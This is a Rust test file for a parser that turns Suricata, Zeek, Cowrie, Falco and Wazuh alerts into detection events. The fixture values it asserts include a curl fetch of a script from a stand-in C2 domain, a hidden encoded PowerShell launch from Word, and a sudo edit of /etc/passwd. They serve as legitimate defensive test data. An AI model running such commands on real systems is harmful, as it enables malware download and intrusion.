//! Tests of the parsers against real detector samples (from the shared data folder, skipped with
//! a message when it is absent) and the Falco and Wazuh fixtures under `tests/data`.

use std::collections::HashSet;
use std::path::{Path, PathBuf};

use super::*;
use crate::limits::*;
use crate::proto::{DetectorKind, IndicatorType, Severity};

/// The shared sample folder (`<repo>/../shared/data`), or `None` after saying why tests skip.
pub(super) fn shared_data() -> Option<PathBuf> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/data");
    if path.is_dir() {
        Some(path)
    } else {
        eprintln!("skipping: shared sample data not found at {}", path.display());
        None
    }
}

pub(super) fn samples(relative: &str) -> Option<PathBuf> {
    shared_data().map(|data| data.join("samples").join(relative))
}

pub(super) fn fixture(relative: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data").join(relative)
}

pub(super) fn read_all(format: Format, path: &Path) -> Vec<Record> {
    let reader = open_path(path).expect("sample opens");
    Reader::new(format, reader, path.to_string_lossy()).collect()
}

/// Every event of a clean file, asserting there was no error and every event validates.
fn events_of(format: Format, path: &Path) -> Vec<DetectionEvent> {
    let mut events = Vec::new();
    for record in read_all(format, path) {
        match record.result {
            Ok(Some(event)) => {
                assert_valid(&event);
                events.push(event);
            }
            Ok(None) => {}
            Err(error) => panic!("{}: {error}", path.display()),
        }
    }
    events
}

/// The event passes validation and the limits; the timestamp only has to be present, since
/// whether it is too old or too new depends on the day the test runs.
pub(super) fn assert_valid(event: &DetectionEvent) {
    let violations: Vec<_> = crate::validate::detection_event(event)
        .err()
        .unwrap_or_default()
        .into_iter()
        .filter(|v| v.field != "timestamp")
        .collect();
    assert!(violations.is_empty(), "{violations:?} in {}", event.original);
    assert!(event.timestamp.is_some());
    assert!(event.attributes.len() <= MAX_ATTRIBUTES);
    assert!(event.indicators.len() <= MAX_INDICATORS);
    assert!(event.technique_hints.len() <= MAX_TECHNIQUE_HINTS);
    assert!(event.description.len() <= MAX_DESCRIPTION_BYTES);
    assert!(event.original.len() <= MAX_ORIGINAL_BYTES);
    assert!(!event.event_id.is_empty() && event.event_id.len() <= MAX_EVENT_ID_BYTES);
}

fn has_indicator(event: &DetectionEvent, kind: IndicatorType, value: &str) -> bool {
    event
        .indicators
        .iter()
        .any(|i| i.r#type == kind as i32 && i.value == value)
}

fn data_lines(path: &Path) -> usize {
    let text = std::fs::read_to_string(path).expect("sample reads");
    text.lines().filter(|l| !l.is_empty() && !l.starts_with('#')).count()
}

#[test]
fn format_names_round_trip() {
    for (format, name) in Format::ALL.into_iter().zip(Format::NAMES) {
        assert_eq!(format.to_string(), name);
        assert_eq!(name.parse::<Format>().ok(), Some(format));
        // Names are read without regard to ASCII case or surrounding space.
        let shouted = format!(" {} ", name.to_ascii_uppercase());
        assert_eq!(shouted.parse::<Format>().ok(), Some(format));
    }
    assert!("suricata-eveX".parse::<Format>().is_err());
    let unknown = "snort".parse::<Format>().err().map(|e| e.to_string());
    assert_eq!(
        unknown.as_deref(),
        Some(
            "unknown format `snort`, expected one of: suricata-eve, zeek, cowrie, falco, wazuh, ndjson, evtx, evtx-json, winlogbeat"
        )
    );
}

#[test]
fn suricata_samples_parse_cleanly() {
    let Some(dir) = samples("suricata") else { return };
    for name in [
        "honeypot-2018.eve.ndjson",
        "first-org-conf-2015.eve.ndjson",
        "wrccdc-2017.eve.ndjson",
    ] {
        let path = dir.join(name);
        let events = events_of(Format::SuricataEve, &path);
        assert_eq!(events.len(), data_lines(&path), "{name}");
        assert!(events.iter().all(|e| e.event_type == "suricata.alert"));
        assert!(
            events
                .iter()
                .all(|e| e.detector_kind == DetectorKind::TrafficMonitor as i32)
        );
        let ids: HashSet<&str> = events.iter().map(|e| e.event_id.as_str()).collect();
        assert_eq!(ids.len(), events.len(), "distinct lines get distinct ids in {name}");
    }
}

#[test]
fn suricata_first_honeypot_alert() {
    let Some(dir) = samples("suricata") else { return };
    let events = events_of(Format::SuricataEve, &dir.join("honeypot-2018.eve.ndjson"));
    let first = &events[0];
    assert_eq!(first.event_type, "suricata.alert");
    assert_eq!(first.description, "ET SCAN Potential SSH Scan");
    assert_eq!(first.source_service, "suricata");
    assert_eq!(first.severity, Severity::Medium as i32);
    assert_eq!(first.attributes["alert.signature_id"], "2001219");
    assert_eq!(first.attributes["alert.category"], "Attempted Information Leak");
    assert_eq!(first.attributes["proto"], "TCP");
    let source = first.source.as_ref().expect("source");
    assert_eq!((source.ip.as_str(), source.port), ("8.42.77.171", 49678));
    let destination = first.destination.as_ref().expect("destination");
    assert_eq!((destination.ip.as_str(), destination.port), ("138.68.3.71", 22));
    let ts = first.timestamp.as_ref().expect("timestamp");
    assert_eq!((ts.seconds, ts.nanos), (1_546_401_011, 315_110_000));
    assert!(has_indicator(first, IndicatorType::Ipv4, "8.42.77.171"));
    assert_eq!(first.original_format, "suricata-eve");
    assert!(
        first
            .original
            .starts_with(r#"{"timestamp":"2019-01-02T03:50:11.315110""#)
    );
}

#[test]
fn suricata_offsets_severity_and_http_indicators() {
    let Some(dir) = samples("suricata") else { return };
    let events = events_of(Format::SuricataEve, &dir.join("first-org-conf-2015.eve.ndjson"));
    let skype = &events[1];
    assert_eq!(skype.severity, Severity::High as i32);
    let ts = skype.timestamp.as_ref().expect("timestamp");
    assert_eq!(ts.seconds, 1_427_417_386, "-0600 offset applied");
    assert!(has_indicator(skype, IndicatorType::Domain, "ui.skype.com"));
    assert!(skype.indicators.iter().any(|i| {
        i.r#type == IndicatorType::Url as i32
            && i.value
                .starts_with("http://ui.skype.com/ui/0/7.2.0.103./en/getlatestversion?")
    }));
    let low = events.iter().filter(|e| e.severity == Severity::Low as i32).count();
    assert!(low > 0, "severity 3 alerts grade low");
}

#[test]
fn zeek_tsv_samples_parse_cleanly() {
    let Some(dir) = samples("zeek/zat-0.4.9") else { return };
    for name in [
        "conn.log",
        "dns.log",
        "http.log",
        "notice.log",
        "weird.log",
        "files.log",
        "ssl.log",
        "x509.log",
        "dhcp.log",
        "ftp.log",
        "smtp.log",
        "app_stats.log",
        "conn_date_issue.log",
        "http_empty.log",
        "tor_ssl.log",
    ] {
        let path = dir.join(name);
        let events = events_of(Format::Zeek, &path);
        assert_eq!(events.len(), data_lines(&path), "{name}");
        let stem = name.split('.').next().unwrap_or_default().replace("_date_issue", "");
        let stem = if stem == "tor_ssl" { "ssl".to_owned() } else { stem };
        assert!(events.iter().all(|e| e.event_type == format!("zeek.{stem}")), "{name}");
    }
}

#[test]
fn zeek_tsv_records_map_fields() {
    let Some(dir) = samples("zeek/zat-0.4.9") else { return };
    let conn = events_of(Format::Zeek, &dir.join("conn.log"));
    let first = &conn[0];
    let ts = first.timestamp.as_ref().expect("timestamp");
    assert_eq!((ts.seconds, ts.nanos), (1_379_288_667, 706_265_000));
    assert_eq!(first.attributes["id.orig_h"], "192.168.33.10");
    assert_eq!(first.attributes["conn_state"], "RSTO");
    assert!(
        !first.attributes.contains_key("local_orig"),
        "unset fields are left out"
    );
    assert!(
        !first.attributes.contains_key("tunnel_parents"),
        "empty fields are left out"
    );
    assert_eq!(first.severity, Severity::Low as i32);
    assert_eq!(first.destination.as_ref().map(|d| d.port), Some(80));
    assert_eq!(first.source_service, "zeek");

    let notice = events_of(Format::Zeek, &dir.join("notice.log"));
    assert_eq!(notice[0].event_type, "zeek.notice");
    assert_eq!(notice[0].severity, Severity::Medium as i32);
    assert_eq!(notice[0].attributes["note"], "TeamCymruMalwareHashRegistry::Match");
    assert_eq!(
        notice[0].description,
        "Malware Hash Registry Detection rate: 14%  Last seen: 2013-09-15 19:31:01"
    );

    let dns = events_of(Format::Zeek, &dir.join("dns.log"));
    assert_eq!(dns[0].description, "guyspy.com");
    assert!(has_indicator(&dns[0], IndicatorType::Domain, "guyspy.com"));
    assert_eq!(dns[1].attributes["answers"], "guyspy.com,54.245.228.191");

    let weird = events_of(Format::Zeek, &dir.join("weird.log"));
    assert_eq!(weird[0].description, "unknown_protocol_2");
    assert!(weird[0].source.is_none(), "no endpoint when every id field is unset");

    let http = events_of(Format::Zeek, &dir.join("http.log"));
    assert!(
        http.iter()
            .any(|e| e.indicators.iter().any(|i| i.r#type == IndicatorType::Url as i32))
    );

    let files = events_of(Format::Zeek, &dir.join("files.log"));
    assert!(has_indicator(
        &files[0],
        IndicatorType::FileMd5,
        "92bf83360b8ed10d82e38bcdcfcfa4a7"
    ));
    assert!(has_indicator(
        &files[0],
        IndicatorType::FileSha1,
        "2c3a961bb8ff1b1647f22249c25e8cf1df9031e0"
    ));
}

#[test]
fn zeek_json_samples_parse_cleanly() {
    let Some(dir) = samples("zeek/zat-0.4.9/json") else {
        return;
    };
    let mut names: Vec<PathBuf> = std::fs::read_dir(&dir)
        .expect("json dir lists")
        .filter_map(|entry| entry.ok().map(|e| e.path()))
        .collect();
    names.sort();
    assert!(names.len() >= 10);
    for path in names {
        let stem = path.file_stem().and_then(|s| s.to_str()).unwrap_or_default().to_owned();
        if stem == "loaded_scripts" {
            // Lists script files: no `ts`, so every line is reported, none is silently taken.
            for record in read_all(Format::Zeek, &path) {
                let error = record.result.err().map(|e| e.to_string());
                assert_eq!(error, Some(format!("line {}: missing field `ts`", record.line)));
            }
            continue;
        }
        let events = events_of(Format::Zeek, &path);
        assert_eq!(events.len(), data_lines(&path), "{}", path.display());
        assert!(events.iter().all(|e| e.event_type == format!("zeek.{stem}")));
    }
    let dns = events_of(Format::Zeek, &dir.join("dns.log"));
    assert!(has_indicator(
        &dns[0],
        IndicatorType::Domain,
        "_ldap._tcp.default-first-site-name._sites.icemaiden-dc.icemaiden.com"
    ));
    let conn = events_of(Format::Zeek, &dir.join("conn.log"));
    let ts = conn[0].timestamp.as_ref().expect("timestamp");
    assert_eq!((ts.seconds, ts.nanos), (1_575_413_096, 52_279_000));
}

#[test]
fn zeek_gzip_reads_like_plain_text() {
    let Some(dir) = samples("zeek/zat-0.4.9") else { return };
    for (plain, gz) in [("dhcp.log", "dhcp.log.gz"), ("http.log", "http.log.gz")] {
        let a = read_all(Format::Zeek, &dir.join(plain));
        let b = read_all(Format::Zeek, &dir.join(gz));
        assert_eq!(a.len(), b.len());
        for (x, y) in a.iter().zip(&b) {
            assert_eq!((x.line, x.offset, x.end_offset), (y.line, y.offset, y.end_offset));
            let id = |r: &Record| {
                r.result
                    .as_ref()
                    .ok()
                    .and_then(Option::as_ref)
                    .map(|e| e.event_id.clone())
            };
            assert_eq!(id(x), id(y));
        }
    }
    let corrupt = read_all(Format::Zeek, &dir.join("http.log.corrupt.gz"));
    let last = corrupt.last().expect("records before the damage");
    assert!(matches!(
        last.result.as_ref().map_err(ParseError::kind),
        Err(ParseError::Io(_))
    ));
    assert_eq!(last.offset, last.end_offset);
    assert!(corrupt[..corrupt.len() - 1].iter().all(|r| r.result.is_ok()));
    assert!(corrupt.len() > 100);
}

#[test]
fn cowrie_sample_parses_cleanly() {
    let Some(path) = samples("cowrie/cowrie_local_session.json") else {
        return;
    };
    let events = events_of(Format::Cowrie, &path);
    assert_eq!(events.len(), 100);
    assert!(events.iter().all(|e| e.detector_kind == DetectorKind::Decoy as i32));
    assert!(events.iter().all(|e| e.source_service == "cowrie:vm"));
    let success = events
        .iter()
        .find(|e| e.event_type == "cowrie.login.success")
        .expect("login");
    assert_eq!(success.severity, Severity::High as i32);
    assert_eq!(success.description, "login attempt [admin/admin] succeeded");
    assert_eq!(success.source.as_ref().map(|s| s.user.as_str()), Some("admin"));
    assert_eq!(success.destination.as_ref().map(|d| d.port), Some(2222));
    assert!(has_indicator(success, IndicatorType::UserAccount, "admin"));
    let failed = events
        .iter()
        .find(|e| e.event_type == "cowrie.login.failed")
        .expect("failure");
    assert_eq!(failed.severity, Severity::Medium as i32);
    let command = events
        .iter()
        .find(|e| e.event_type == "cowrie.command.input")
        .expect("command");
    assert_eq!(command.description, "uname -a");
    assert_eq!(command.attributes["input"], "uname -a");
    assert!(has_indicator(command, IndicatorType::ProcessCommandLine, "uname -a"));
    let download = events
        .iter()
        .find(|e| e.event_type == "cowrie.session.file_download")
        .expect("download");
    assert_eq!(download.severity, Severity::High as i32);
    let closed = events
        .iter()
        .find(|e| e.event_type == "cowrie.log.closed")
        .expect("log closed");
    assert!(
        closed
            .indicators
            .iter()
            .all(|i| i.r#type != IndicatorType::FileSha256 as i32)
    );
    let kex = events
        .iter()
        .find(|e| e.event_type == "cowrie.client.kex")
        .expect("kex");
    assert_eq!(kex.severity, Severity::Low as i32);
    assert!(kex.attributes["kexAlgs"].starts_with("mlkem768x25519-sha256,curve25519-sha256@libssh.org"));
}

#[test]
fn falco_fixture_parses() {
    let events = events_of(Format::Falco, &fixture("falco/events.ndjson"));
    assert_eq!(events.len(), 16);
    assert!(
        events
            .iter()
            .all(|e| e.event_type == "falco.alert" && e.source_service == "falco:ip-10-0-1-23")
    );
    let shell = &events[0];
    assert_eq!(shell.attributes["rule"], "Terminal shell in container");
    assert_eq!(shell.attributes["output_fields.proc.cmdline"], "bash");
    assert_eq!(shell.technique_hints, vec!["T1059".to_owned()]);
    assert_eq!(shell.severity, Severity::Low as i32);
    assert_eq!(
        shell.destination.as_ref().map(|d| d.hostname.as_str()),
        Some("web-nginx")
    );
    let process = shell.source.as_ref().and_then(|s| s.process.as_ref()).expect("process");
    assert_eq!(
        (process.name.as_str(), process.pid, process.parent_name.as_str()),
        ("bash", 31337, "runc")
    );
    let ts = shell.timestamp.as_ref().expect("timestamp");
    assert_eq!(ts.nanos, 408_091_526);
    let c2 = events
        .iter()
        .find(|e| e.attributes["rule"] == "Outbound Connection to C2 Servers")
        .expect("c2");
    assert_eq!(c2.severity, Severity::Medium as i32);
    assert!(c2.technique_hints.is_empty(), "TA0011 is a tactic, not a technique");
    assert_eq!(
        c2.destination.as_ref().map(|d| (d.ip.as_str(), d.port)),
        Some(("185.220.101.4", 443))
    );
    assert!(has_indicator(c2, IndicatorType::Domain, "update.cdn-sync.example"));
    assert!(has_indicator(
        c2,
        IndicatorType::ProcessCommandLine,
        "curl -sk https://update.cdn-sync.example/x.sh"
    ));
    let write = events
        .iter()
        .find(|e| e.attributes["rule"] == "Write below etc")
        .expect("write below etc");
    assert_eq!(write.severity, Severity::High as i32);
    let escape = events
        .iter()
        .find(|e| e.attributes["rule"].contains("release_agent"))
        .expect("escape");
    assert_eq!(escape.severity, Severity::Critical as i32);
    assert_eq!(escape.technique_hints, vec!["T1611".to_owned()]);
    let keys = events
        .iter()
        .find(|e| e.attributes["rule"] == "Search Private Keys or Passwords")
        .expect("keys");
    assert_eq!(keys.technique_hints, vec!["T1552.001".to_owned()]);
    assert_eq!(
        keys.destination.as_ref().map(|d| d.hostname.as_str()),
        Some("ip-10-0-1-23")
    );
}

#[test]
fn wazuh_fixture_parses() {
    let events = events_of(Format::Wazuh, &fixture("wazuh/alerts.json"));
    assert_eq!(events.len(), 15);
    let by_rule = |id: &str| {
        events
            .iter()
            .find(|e| e.attributes.get("rule.id").map(String::as_str) == Some(id))
            .unwrap_or_else(|| panic!("rule {id}"))
    };
    let brute = by_rule("5712");
    assert_eq!(brute.event_type, "wazuh.alert");
    assert_eq!(brute.severity, Severity::High as i32);
    assert_eq!(brute.technique_hints, vec!["T1110".to_owned()]);
    assert_eq!(brute.source_service, "wazuh-manager-01");
    assert_eq!(
        brute.source.as_ref().map(|s| (s.ip.as_str(), s.port)),
        Some(("198.51.100.23", 51090))
    );
    assert_eq!(brute.destination.as_ref().map(|d| d.hostname.as_str()), Some("web-01"));
    assert_eq!(brute.attributes["rule.groups"], "syslog,sshd,authentication_failures");
    assert_eq!(brute.attributes["rule.mitre.id"], "T1110");
    let ts = brute.timestamp.as_ref().expect("timestamp");
    assert_eq!((ts.seconds, ts.nanos), (1_704_103_209, 877_000_000));
    let changed = by_rule("550");
    assert_eq!(changed.description, "Integrity checksum changed.");
    assert!(has_indicator(
        changed,
        IndicatorType::FileSha256,
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    ));
    assert!(has_indicator(
        changed,
        IndicatorType::FileMd5,
        "9b3a2c1d4e5f60718293a4b5c6d7e8f9"
    ));
    assert!(has_indicator(changed, IndicatorType::FileName, "/etc/passwd"));
    assert_eq!(by_rule("510").severity, Severity::Medium as i32);
    assert!(by_rule("510").technique_hints.is_empty());
    assert_eq!(by_rule("31103").technique_hints, vec!["T1190".to_owned()]);
    let macro_shell = by_rule("92057");
    assert_eq!(macro_shell.severity, Severity::Critical as i32);
    let process = macro_shell
        .source
        .as_ref()
        .and_then(|s| s.process.as_ref())
        .expect("process");
    assert_eq!(
        (process.name.as_str(), process.parent_name.as_str(), process.pid),
        ("powershell.exe", "WINWORD.EXE", 6120)
    );
    assert!(process.command_line.starts_with("powershell.exe -nop -w hidden -enc "));
    let sudo = by_rule("5402")
        .source
        .as_ref()
        .and_then(|s| s.process.as_ref())
        .map(|p| p.command_line.as_str());
    assert_eq!(sudo, Some("/usr/bin/vi /etc/passwd"));
    assert!(has_indicator(
        by_rule("5402"),
        IndicatorType::ProcessCommandLine,
        "/usr/bin/vi /etc/passwd"
    ));
    assert_eq!(by_rule("5502").severity, Severity::Low as i32);
    let v6 = by_rule("40111");
    assert!(has_indicator(v6, IndicatorType::Ipv6, "2001:db8:77::15"));
}

/// A shipper hands each event back with [`recycle`] once it is encoded, and the next records are
/// written into its strings: what they parse to must not change, whatever the strings held.
#[test]
fn records_parsed_after_recycled_events_are_unchanged() {
    let mut files = vec![
        (Format::Falco, fixture("falco/events.ndjson")),
        (Format::Wazuh, fixture("wazuh/alerts.json")),
        (Format::SuricataEve, fixture("suricata/edge-cases.ndjson")),
        (Format::Ndjson, fixture("json-edge-cases.ndjson")),
    ];
    if let Some(dir) = samples("") {
        for name in ["first-org-conf-2015", "honeypot-2018", "wrccdc-2017"] {
            files.push((Format::SuricataEve, dir.join(format!("suricata/{name}.eve.ndjson"))));
        }
        files.push((Format::Cowrie, dir.join("cowrie/cowrie_local_session.json")));
        for name in ["conn", "dns", "http", "files"] {
            files.push((Format::Zeek, dir.join(format!("zeek/zat-0.4.9/json/{name}.log"))));
        }
    }
    let mut recycled = 0;
    // Every file is read twice over the same thread's kept strings, so the second reading of
    // each writes into strings of the same records.
    for _ in 0..2 {
        for (format, path) in &files {
            let fresh: Vec<_> = std::thread::scope(|s| {
                s.spawn(|| read_all(*format, path).into_iter().map(|r| r.result).collect())
                    .join()
                    .expect("reading thread")
            });
            let reader = Reader::new(*format, open_path(path).expect("opens"), path.to_string_lossy());
            let mut count = 0;
            for (record, expected) in reader.zip(&fresh) {
                count += 1;
                match (record.result, expected) {
                    (Ok(Some(event)), Ok(Some(want))) => {
                        assert_eq!(&event, want, "{}:{}", path.display(), record.line);
                        recycle(event);
                        recycled += 1;
                    }
                    (got, want) => assert_eq!(format!("{got:?}"), format!("{want:?}"), "{}", path.display()),
                }
            }
            assert_eq!(count, fresh.len(), "{}", path.display());
        }
    }
    assert!(recycled > 100, "only {recycled} events were recycled");
}

/// Recycling keeps a bounded number of small buffers: an event with hundreds of attributes and
/// huge values leaves no more than that behind, and parsing after it is unchanged.
#[test]
fn recycling_keeps_a_bounded_number_of_small_buffers() {
    let line = r#"{"timestamp":"2024-05-01T10:00:00Z","event_type":"alert","src_ip":"10.0.0.1","alert":{"signature":"x","severity":2,"tags":["a",1,true,null,""]},"n":-12,"f":1.5}"#;
    let fresh = parse_line(Format::SuricataEve, line, &mut ParseState::default());
    let mut huge = DetectionEvent::default();
    for i in 0..(builder::KEPT_STRINGS * 2) {
        let value = if i % 2 == 0 {
            "v".repeat(100_000)
        } else {
            format!("value {i}")
        };
        huge.attributes.insert(format!("key.{i:05}"), value);
    }
    recycle(huge);
    let kept = builder::KeptStrings::take();
    assert!(kept.len() <= builder::KEPT_STRINGS, "{} kept", kept.len());
    assert!(
        kept.all_empty_and_small(),
        "kept strings are emptied and at most the kept size"
    );
    drop(kept);
    let again = parse_line(Format::SuricataEve, line, &mut ParseState::default());
    assert_eq!(format!("{fresh:?}"), format!("{again:?}"));
}
